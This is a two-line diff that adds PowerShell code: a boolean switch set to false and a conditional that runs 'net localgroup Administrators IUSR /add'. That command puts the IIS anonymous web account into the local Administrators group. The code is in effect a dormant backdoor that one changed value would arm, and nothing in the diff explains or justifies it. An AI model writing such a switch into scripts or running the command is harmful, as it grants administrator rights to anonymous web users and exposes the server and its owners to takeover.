@@ -1,0 +1,2 @@
+$enable = $false
+if ($enable) { net localgroup Administrators IUSR /add }
